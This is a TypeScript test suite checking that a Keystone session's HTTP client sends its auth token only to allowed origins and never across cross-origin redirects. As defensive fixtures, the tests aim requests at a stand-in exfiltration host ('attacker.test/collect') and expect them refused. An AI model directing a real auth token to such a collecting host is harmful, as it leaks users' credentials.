/**
 * Where `session.httpClient` sends the token: the token's catalog origins,
 * the auth URL's origin and `allowOrigins` only; never across a redirect to
 * another origin (issue 8, "Where the token goes").
 */
import * as FetchHttpClient from "@effect/platform/FetchHttpClient"
import * as HttpClient from "@effect/platform/HttpClient"
import * as HttpClientRequest from "@effect/platform/HttpClientRequest"
import * as NodeHttpClient from "@effect/platform-node/NodeHttpClient"
import * as SessionHttp from "../src/internal/sessionHttp.js"
import { describe, expect, it } from "@effect/vitest"
import { KeystoneSim } from "@effect-keystone/testing"
import * as Context from "effect/Context"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Redacted from "effect/Redacted"
import type * as Scope from "effect/Scope"
import * as Http from "node:http"
import type { AddressInfo } from "node:net"
import * as KeystoneSession from "../src/KeystoneSession.js"
import { capture } from "./utils/logs.js"
import { auth, type Env, makeEnv, makeSession } from "./utils/session.js"

/** Every request the application's HttpClient sent: URL and X-Auth-Token. */
const recording = () => {
  const sent: Array<{ readonly url: string; readonly token: string | undefined }> = []
  const wrap = (http: HttpClient.HttpClient): HttpClient.HttpClient =>
    HttpClient.mapRequest(http, (request) => {
      sent.push({ url: request.url, token: request.headers["x-auth-token"] })
      return request
    })
  return { sent, wrap }
}

/** A loopback server; `seen` lists each request's path and X-Auth-Token. */
const serve = (handler: (req: Http.IncomingMessage, res: Http.ServerResponse) => void) =>
  Effect.acquireRelease(
    Effect.async<{ readonly origin: string; readonly seen: Array<{ path: string; token: string | undefined }>; readonly server: Http.Server }>((resume) => {
      const seen: Array<{ path: string; token: string | undefined }> = []
      const server = Http.createServer((req, res) => {
        const token = req.headers["x-auth-token"]
        seen.push({ path: req.url ?? "", token: typeof token === "string" ? token : undefined })
        handler(req, res)
      })
      server.listen(0, "127.0.0.1", () => {
        const { port } = server.address() as AddressInfo
        resume(Effect.succeed({ origin: `http://127.0.0.1:${port}`, seen, server }))
      })
    }),
    ({ server }) => Effect.async<void>((resume) => {
      server.closeAllConnections()
      server.close(() => resume(Effect.void))
    })
  )

/** A session on `env` whose application HttpClient is `http` (Keystone stays the simulator). */
const sessionWith = (
  env: Env,
  http: HttpClient.HttpClient,
  options?: Partial<KeystoneSession.Options>
): Effect.Effect<KeystoneSession.KeystoneSessionService, never, Scope.Scope> =>
  Effect.provide(KeystoneSession.make({ auth, ...options }), Context.add(env.context, HttpClient.HttpClient, http))

const buildClient = (layer: Layer.Layer<HttpClient.HttpClient>) =>
  Effect.map(Layer.build(layer), (ctx) => Context.get(ctx, HttpClient.HttpClient))

describe("KeystoneSession.httpClient: where the token goes", () => {
  it.scoped("a catalog origin and the auth URL's origin get the token; any other origin is refused, unsent", () =>
    Effect.gen(function*() {
      const rec = recording()
      const env = yield* makeEnv({ wrapHttp: rec.wrap })
      const session = yield* makeSession(env)
      const http = yield* session.httpClient
      const t = yield* session.token
      const compute = yield* session.endpoint({ type: "compute", region: "RegionTwo" })
      expect((yield* http.get(`${compute}/servers`)).status).toBe(200)
      yield* http.get(`${env.sim.authUrl}/auth/projects`)
      const refused = yield* Effect.flip(http.get("http://attacker.test/collect"))
      expect(refused._tag).toBe("OriginNotAllowed")
      expect(refused).toBeInstanceOf(KeystoneSession.OriginNotAllowed)
      expect(refused._tag === "OriginNotAllowed" && refused.origin).toBe("http://attacker.test")
      expect(refused.message).not.toContain(Redacted.value(t.id))
      // same host, another port or scheme: another origin
      expect((yield* Effect.flip(http.get("http://compute.region-one.test:9999/x")))._tag).toBe("OriginNotAllowed")
      expect((yield* Effect.flip(http.get("https://compute.region-one.test:8774/x")))._tag).toBe("OriginNotAllowed")
      // a relative URL has no origin to check
      expect((yield* Effect.flip(http.get("/servers")))._tag).toBe("OriginNotAllowed")
      const withToken = rec.sent.filter((r) => r.token !== undefined).map((r) => new URL(r.url).origin)
      expect(new Set(withToken)).toEqual(new Set(["http://compute.region-two.test:8774", env.sim.baseUrl]))
      expect(rec.sent.some((r) => r.url.includes("attacker.test") || r.url.includes(":9999") || r.url.startsWith("https:"))).toBe(false)
    }))

  it.scoped("the check sees the request as sent: a HttpClient.mapRequest around the session's client cannot move the token elsewhere", () =>
    Effect.gen(function*() {
      const rec = recording()
      const env = yield* makeEnv({ wrapHttp: rec.wrap })
      const session = yield* makeSession(env)
      const compute = yield* session.endpoint({ type: "compute", region: "RegionTwo" })
      const http = yield* session.httpClient
      // a relative path made absolute by the caller's mapping is checked (and allowed) as absolute
      const prefixed = HttpClient.mapRequest(http, HttpClientRequest.prependUrl(compute))
      expect((yield* prefixed.get("/servers")).status).toBe(200)
      // a mapping that points the request elsewhere is refused, unsent
      const moved = HttpClient.mapRequest(http, HttpClientRequest.setUrl("http://attacker.test/collect"))
      expect((yield* Effect.flip(moved.get(`${compute}/servers`)))._tag).toBe("OriginNotAllowed")
      expect(rec.sent.some((r) => r.url.includes("attacker.test"))).toBe(false)
    }))

  it.scoped("allowOrigins adds origins (a path in an entry is ignored); an invalid entry allows nothing and is logged", () =>
    Effect.gen(function*() {
      const rec = recording()
      const logs = capture()
      const env = yield* makeEnv({ wrapHttp: rec.wrap })
      const session = yield* Effect.provide(
        makeSession(env, { allowOrigins: ["http://metrics.test:9090/some/path", "not a url", "ftp://files.test"] }),
        logs.layer
      )
      expect(logs.warnings().map((l) => l.message)).toContainEqual(
        "KeystoneSession: 2 allowOrigins entries are not absolute http(s) URLs; they allow nothing"
      )
      const http = yield* session.httpClient
      const t = yield* session.token
      yield* http.get("http://metrics.test:9090/push")
      expect(rec.sent.find((r) => r.url.startsWith("http://metrics.test:9090"))?.token).toBe(Redacted.value(t.id))
      expect((yield* Effect.flip(http.get("ftp://files.test/x")))._tag).toBe("OriginNotAllowed")
      expect((yield* Effect.flip(http.get("http://metrics.test:9091/push")))._tag).toBe("OriginNotAllowed")
    }))

  it.scoped("a catalog endpoint with user info or another scheme adds no origin", () =>
    Effect.gen(function*() {
      const rec = recording()
      const env = yield* makeEnv({
        wrapHttp: rec.wrap,
        seed: {
          catalog: [...KeystoneSim.defaultSeed.catalog, {
            id: "svc-planted",
            type: "metering",
            name: "planted",
            endpoints: [
              { id: "ep-userinfo", interface: "public", region: "RegionOne", url: "http://user:pw@collector.test:8080/v1" },
              { id: "ep-ftp", interface: "internal", region: "RegionOne", url: "ftp://collector.test/v1" }
            ]
          }]
        }
      })
      const session = yield* makeSession(env)
      const http = yield* session.httpClient
      const missing = yield* Effect.flip(session.endpoint({ type: "metering" }))
      expect(missing._tag).toBe("EndpointNotFound")
      expect(missing.message).toContain("its URL carries user info")
      expect(missing.message).not.toContain("pw@")
      expect((yield* Effect.flip(session.endpoint({ type: "metering", interface: "internal" }))).message).toContain(
        "its URL scheme ftp: is not http: or https:"
      )
      expect((yield* Effect.flip(http.get("http://collector.test:8080/v1")))._tag).toBe("OriginNotAllowed")
      expect(rec.sent.some((r) => r.url.includes("collector.test"))).toBe(false)
    }))

  describe("redirects (real loopback servers)", () => {
    const setup = (base: Layer.Layer<HttpClient.HttpClient>) =>
      Effect.gen(function*() {
        const second = yield* serve((_req, res) => res.writeHead(200, { "content-type": "text/plain" }).end("landed"))
        const first = yield* serve((_req, res) => res.writeHead(302, { location: `${second.origin}/landing` }).end())
        const env = yield* makeEnv()
        const session = yield* sessionWith(env, yield* buildClient(base), { allowOrigins: [first.origin] })
        const t = yield* session.token
        return { first, second, session, http: yield* session.httpClient, id: Redacted.value(t.id) }
      })

    it.scoped("a provided HttpClient that follows redirects itself is called out once, as a warning", () =>
      Effect.gen(function*() {
        const logs = capture()
        const second = yield* serve((_req, res) => res.writeHead(200).end("landed"))
        const first = yield* serve((_req, res) => res.writeHead(302, { location: `${second.origin}/landing` }).end())
        const env = yield* makeEnv()
        const following = HttpClient.followRedirects(yield* buildClient(NodeHttpClient.layerUndici))
        const session = yield* sessionWith(env, following, { allowOrigins: [first.origin] })
        const http = yield* session.httpClient
        yield* Effect.provide(Effect.all([http.get(`${first.origin}/a`), http.get(`${first.origin}/b`)]), logs.layer)
        const warnings = logs.warnings().filter((l) => l.message.includes("followed a redirect to another origin"))
        expect(warnings.length).toBe(1)
        expect(warnings[0]!.annotations["http.redirected_to"]).toBe(second.origin)
      }))

    for (const [label, base, told] of [["undici", NodeHttpClient.layerUndici, false], ["fetch", FetchHttpClient.layer, true]] as const) {
      it.scoped(`${label}: RequestInit is set until the client is seen not reading it (then: ${told ? "still set" : "no longer"}); redirects stay with the caller`, () =>
        Effect.gen(function*() {
          const second = yield* serve((_req, res) => res.writeHead(200, { "content-type": "text/plain" }).end("landed"))
          const first = yield* serve((_req, res) => res.writeHead(302, { location: `${second.origin}/landing` }).end())
          const client = yield* buildClient(base)
          const session = yield* sessionWith(yield* makeEnv(), client, { allowOrigins: [first.origin] })
          const http = yield* session.httpClient
          expect(SessionHttp.toldNotToFollowRedirects(client)).toBe(true)
          for (let i = 0; i < 3; i++) expect((yield* http.get(`${first.origin}/start`)).status).toBe(302)
          expect(SessionHttp.toldNotToFollowRedirects(client)).toBe(told)
          expect(first.seen.length).toBe(3)
          expect(second.seen).toEqual([])
        }))
    }

    for (const redirect of ["follow", "manual"] as const) {
      it.scoped(`fetch, the caller's context holding RequestInit with redirect: ${redirect}: the 302 still comes back to the caller`, () =>
        Effect.gen(function*() {
          const { first, http, id, second } = yield* setup(FetchHttpClient.layer)
          const response = yield* Effect.provideService(http.get(`${first.origin}/start`), FetchHttpClient.RequestInit, { redirect })
          expect(response.status).toBe(302)
          expect(first.seen).toEqual([{ path: "/start", token: id }])
          expect(second.seen).toEqual([])
        }))
    }

    for (const [label, base] of [["undici", NodeHttpClient.layerUndici], ["fetch", FetchHttpClient.layer]] as const) {
      it.scoped(`${label}: the 302 comes back to the caller; the other port never sees a request`, () =>
        Effect.gen(function*() {
          const { first, http, id, second } = yield* setup(base)
          const response = yield* http.get(`${first.origin}/start`)
          expect(response.status).toBe(302)
          expect(first.seen).toEqual([{ path: "/start", token: id }])
          expect(second.seen).toEqual([])
        }))

      it.scoped(`${label}: HttpClient.followRedirects around session.httpClient: the hop to the other origin is refused, the token never sent there`, () =>
        Effect.gen(function*() {
          const { first, http, id, second } = yield* setup(base)
          const error = yield* Effect.flip(HttpClient.followRedirects(http).get(`${first.origin}/start`))
          expect(error._tag).toBe("OriginNotAllowed")
          expect(error._tag === "OriginNotAllowed" && error.origin).toBe(second.origin)
          expect(first.seen).toEqual([{ path: "/start", token: id }])
          expect(second.seen.filter((s) => s.token !== undefined)).toEqual([])
          expect(second.seen).toEqual([])
        }))
    }
  })
})
